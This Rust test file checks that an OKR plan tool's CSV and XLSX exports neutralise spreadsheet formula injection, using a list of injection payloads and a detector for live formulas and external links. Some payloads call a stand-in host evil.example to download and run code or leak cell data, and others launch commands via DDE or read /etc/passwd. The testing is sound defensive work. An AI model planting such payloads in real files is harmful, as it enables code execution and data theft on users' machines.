//! No text of a plan becomes a formula, in whatever is written for a spreadsheet.

use std::io::{Cursor, Read as _};

use okr_core::model::{
    CheckIn, ElementId, Initiative, Inline, KeyResult, Link, Objective, Plan, Section, parse_date,
};
use okr_core::parse;
use okr_render::import::{self, ImportOptions};
use okr_render::{Part, ReadOptions, WriteOptions};
use serde_json::Value;
use zip::ZipArchive;

use crate::formats::{assert_same, full_plan, named, written};

/// What people have put into cells to make a spreadsheet run it, and what comes near to it.
pub(crate) const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget evil.example/x.exe)'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTFEED(\"http://evil.example\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"http://evil.example/x.png\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "+49 30 1234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-cmd|' /C calc'!A0",
    "- a dash",
    "--1",
    "-",
    "+",
    "=",
    "@",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "@ada",
    "@",
    "==1",
    "=-1",
    "+=1",
    "'=1+1",
    "''=1+1",
    "'+1",
    "'-1",
    "'@x",
    "'-5%",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2060}@x",
    "\u{3000}=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\"\"=1+1",
    "=\"a\"\"b\"",
    "=1,=2",
    "=1;=2",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "%0A=1+1",
    "=A1%",
    "+1.000,00",
    "-1e5",
    "-5 %",
    "+25% (a)",
    "=sum(1)|x",
    "a=1",
    "5-3",
    "-5%",
    "+5",
    "0",
];

/// A plan that has the text wherever there can be text.
pub(crate) fn plan_of(payload: &str) -> Plan {
    let line = || Inline::from_plain(payload);
    let words = || Some(payload.to_owned());
    let mut key_result = KeyResult {
        title: line(),
        id: words(),
        owner: words(),
        text: payload.to_owned(),
        ..KeyResult::default()
    };
    key_result.measure.name = Some(line());
    key_result.measure.question = Some(line());
    key_result.measure.source = Some(line());
    key_result.fields.insert("Colour".to_owned(), line());
    let initiative = Initiative {
        title: line(),
        owner: words(),
        text: payload.to_owned(),
        ..Initiative::default()
    };
    key_result.initiatives.push(initiative.clone());
    let mut check_in = CheckIn::new(parse_date("2026-10-09").expect("is a date"));
    check_in.note = Some(line());
    key_result.check_ins.push(check_in);
    let mut objective = Objective {
        title: line(),
        id: words(),
        owner: words(),
        text: payload.to_owned(),
        key_results: vec![key_result],
        initiatives: vec![initiative],
        ..Objective::default()
    };
    objective.supports.push(Link {
        text: payload.to_owned(),
        target: payload.to_owned(),
    });
    objective.fields.insert("Colour".to_owned(), line());
    let mut plan = Plan {
        name: words(),
        title: Some(line()),
        team: words(),
        owner: words(),
        template: words(),
        text: payload.to_owned(),
        objectives: vec![objective],
        ..Plan::default()
    };
    plan.sections.push(Section {
        title: line(),
        text: payload.to_owned(),
        position: 1,
    });
    plan.front_matter
        .insert("colour".to_owned(), payload.to_owned());
    plan
}

#[test]
fn no_formula_gets_into_a_table_and_every_text_comes_back() {
    let csv = named("csv");
    assert!(
        PAYLOADS
            .iter()
            .filter(|payload| !payload.chars().next().is_some_and(char::is_alphanumeric))
            .count()
            >= 50
    );
    for payload in PAYLOADS {
        let plan = plan_of(payload);
        let bytes = written(csv, &plan);
        assert_no_formula(&bytes);
        let read = (csv.read)(&bytes, &ReadOptions::default())
            .unwrap_or_else(|error| panic!("{payload:?}: {error}"));
        assert_same(&read.plan, &csv.carries.reduce(&plan), payload);
        let key_result = read
            .plan
            .key_result(ElementId::KeyResult(0, 0))
            .expect("is there");
        let plain = Inline::from_plain(payload).plain().into_owned();
        assert_eq!(key_result.title.plain(), plain);
        assert_eq!(key_result.initiatives[0].title.plain(), plain);
        assert_eq!(key_result.owner.as_deref(), Some(*payload));
    }
}

#[test]
fn no_name_of_a_field_gets_into_a_table_as_a_formula() {
    for payload in PAYLOADS {
        let mut json: Value =
            serde_json::from_slice(&written(named("json"), &full_plan())).expect("is JSON");
        json["objectives"][0]["key_results"][0]["fields"] = serde_json::json!({ *payload: "x" });
        json["front_matter"] = serde_json::json!({ *payload: "x" });
        let bytes = serde_json::to_vec(&json).expect("is JSON");
        if let Ok(read) = (named("json").read)(&bytes, &ReadOptions::default()) {
            assert_no_formula(&written(named("csv"), &read.plan));
        }
    }
}

#[test]
fn the_search_for_formulas_finds_them() {
    for cell in [
        "=1",
        "+a",
        "-a",
        "@a",
        " =1",
        "\t=1",
        "\u{a0}-x",
        "\u{200b}=1",
        "＝1",
        "-1+1",
        "\"\r\n=1\"",
    ] {
        let table = format!("a,b\r\nx,{cell}\r\n");
        assert!(formulas(table.as_bytes()).len() == 1, "{cell:?}");
    }
    assert_eq!(
        formulas("a,b\r\n-5%,'=1\r\n+3,-0.5\r\n,a=b\r\n".as_bytes()),
        [""; 0]
    );
}

/// Checks that no cell of a CSV file begins with what a spreadsheet takes for a formula.
#[track_caller]
pub(crate) fn assert_no_formula(table: &[u8]) {
    let formulas = formulas(table);
    assert!(
        formulas.is_empty(),
        "{formulas:?} in {}",
        String::from_utf8_lossy(table)
    );
}

/// Returns the cells that a spreadsheet might take for a formula: those that begin, after what does not
/// show, with a formula's sign, and are no plain number.
pub(crate) fn formulas(table: &[u8]) -> Vec<String> {
    let is_unseen = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
    };
    let is_number = |cell: &str| {
        cell.strip_suffix('%')
            .unwrap_or(cell)
            .parse::<rust_decimal::Decimal>()
            .is_ok()
    };
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(table);
    let mut found = Vec::new();
    for record in reader.records() {
        for cell in &record.expect("is CSV") {
            if cell
                .trim_start_matches(is_unseen)
                .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
                && !is_number(cell)
            {
                found.push(cell.to_owned());
            }
        }
    }
    found
}

/// Returns the parts of a workbook that are XML, by name.
fn parts(book: &[u8]) -> Vec<(String, String)> {
    let mut archive = ZipArchive::new(Cursor::new(book)).expect("is a workbook");
    let mut parts = Vec::new();
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("is there");
        let name = part.name().expect("is UTF-8").into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).expect("is UTF-8");
        parts.push((name, text));
    }
    parts
}

/// Returns what stands between a tag of that name and its end, wherever it occurs.
fn within<'x>(xml: &'x str, tag: &str) -> Vec<&'x str> {
    let open = format!("<{tag}");
    let found = xml
        .match_indices(&open)
        .map(|(at, _)| &xml[at + open.len()..]);
    let found = found.filter(|rest| rest.starts_with(['>', ' ']));
    found
        .filter_map(|rest| rest.split_once('>')?.1.split_once(&format!("</{tag}>")))
        .map(|(inner, _)| inner)
        .collect()
}

/// Returns what is alive in a workbook and was not written by okr: formulas that call or name anything else
/// than ours do, and links to what is outside.
fn live(book: &[u8]) -> Vec<String> {
    const CALLS: [&str; 16] = [
        "AND", "COUNT", "COUNTA", "COUNTIFS", "IF", "IFERROR", "INDEX", "INT", "ISNUMBER", "MATCH",
        "MAX", "MIN", "N", "OR", "SUM", "SUMIFS",
    ];
    let mut live = Vec::new();
    for (name, xml) in parts(book) {
        if name.contains("externalLink") || xml.contains("TargetMode=\"External\"") {
            live.push(format!("{name} leads outside"));
        }
        for sign in ["<hyperlink", "<ddeLink", "<oleObject", "<externalReference"] {
            if xml.contains(sign) {
                live.push(format!("{name} has {sign}"));
            }
        }
        let formulas = [
            "f",
            "formula1",
            "formula2",
            "formula",
            "definedName",
            "xm:f",
        ];
        for formula in formulas.iter().flat_map(|tag| within(&xml, tag)) {
            // What stands in quotes is text.
            let code: String = formula
                .replace("&quot;", "\"")
                .split('"')
                .step_by(2)
                .collect();
            let mut calls = code.split('(').collect::<Vec<_>>();
            calls.pop();
            let is_ours = calls.iter().all(|before| {
                let name = before.rsplit(|c: char| !c.is_ascii_alphanumeric()).next();
                name.is_some_and(|name| name.is_empty() || CALLS.contains(&name))
            });
            if !is_ours || code.contains(['|', '[', '#']) || code.contains("://") {
                live.push(format!("{name}: {formula}"));
            }
        }
    }
    live
}

fn workbook(plan: &Plan, plain: bool) -> Vec<u8> {
    let mut options = WriteOptions::default();
    options.plain = plain;
    (named("xlsx").write)(plan, &options).expect("fits into a workbook")
}

#[test]
fn no_formula_gets_into_a_workbook_and_every_text_comes_back() {
    let xlsx = named("xlsx");
    let today = parse_date("2026-11-22").expect("is a date");
    for payload in PAYLOADS {
        let plan = plan_of(payload);
        for plain in [false, true] {
            let book = workbook(&plan, plain);
            assert_eq!(live(&book), [""; 0], "{payload:?}, plain: {plain}");
            if plain {
                let formulas: Vec<_> = parts(&book)
                    .into_iter()
                    .filter(|(_, xml)| !within(xml, "f").is_empty())
                    .collect();
                assert!(formulas.is_empty(), "{payload:?}: {formulas:?}");
            }
            let carries = if plain {
                xlsx.carries.without(Part::CheckIns)
            } else {
                xlsx.carries
            };
            let expected = carries.reduce(&plan);
            let read = (xlsx.read)(&book, &ReadOptions::default()).expect("is a workbook");
            assert_same(&read.plan, &expected, payload);
            let import = import::read(&book, &ImportOptions::new(today)).expect("is a workbook");
            assert_same(&import.plan(today).0, &expected, payload);
        }
    }
}

#[test]
fn the_search_in_workbooks_finds_what_is_alive() {
    for formula in [
        "HYPERLINK(&quot;http://evil.example&quot;,&quot;x&quot;)",
        "cmd|'/C calc'!A0",
        "WEBSERVICE(A1)",
        "[1]Sheet1!A1",
        "'file:///etc/passwd'#$passwd.A1",
        "IF(A1,DDE(1,2),3)",
    ] {
        let book = with_part(
            "xl/worksheets/sheet1.xml",
            &format!("<c><f>{formula}</f></c>"),
        );
        assert_eq!(live(&book).len(), 1, "{formula}");
    }
    let link = with_part("xl/externalLinks/externalLink1.xml", "<externalLink/>");
    assert_eq!(live(&link).len(), 1);
    let harmless = "<c><f>IF('Check-in'!$I$6&lt;&gt;&quot;=DDE(|)&quot;,SUM(A1:A2),1)</f></c>";
    assert_eq!(
        live(&with_part("xl/worksheets/sheet1.xml", harmless)),
        [""; 0]
    );
}

fn with_part(name: &str, xml: &str) -> Vec<u8> {
    use std::io::Write as _;
    let mut book = zip::ZipWriter::new(Cursor::new(Vec::new()));
    book.start_file(name, zip::write::SimpleFileOptions::default())
        .expect("has room");
    book.write_all(xml.as_bytes()).expect("has room");
    book.finish().expect("has room").into_inner()
}

#[test]
fn numbers_and_handles_in_a_workbook_are_not_damaged() {
    let text = "## Objective: +1\n- Owner: @ada\n### KR: -5%\n- Owner: @ben.o\n- Baseline: -5\n- Target: to -12.5\n- Source: -5% of +1\n";
    let plan = parse(text).plan;
    for plain in [false, true] {
        let book = workbook(&plan, plain);
        let parts = parts(&book);
        let texts = parts
            .iter()
            .find(|(name, _)| name.ends_with("sharedStrings.xml"));
        let (_, texts) = texts.expect("there are texts");
        for word in ["+1", "@ada", "-5%", "@ben.o", "-5% of +1"] {
            assert!(texts.contains(&format!("<t>{word}</t>")), "{word}: {texts}");
        }
        let sheets: String = parts.iter().map(|(_, xml)| xml.as_str()).collect();
        for number in ["<v>-5</v>", "<v>-12.5</v>"] {
            assert!(sheets.contains(number), "{number} is a number");
        }
    }
}
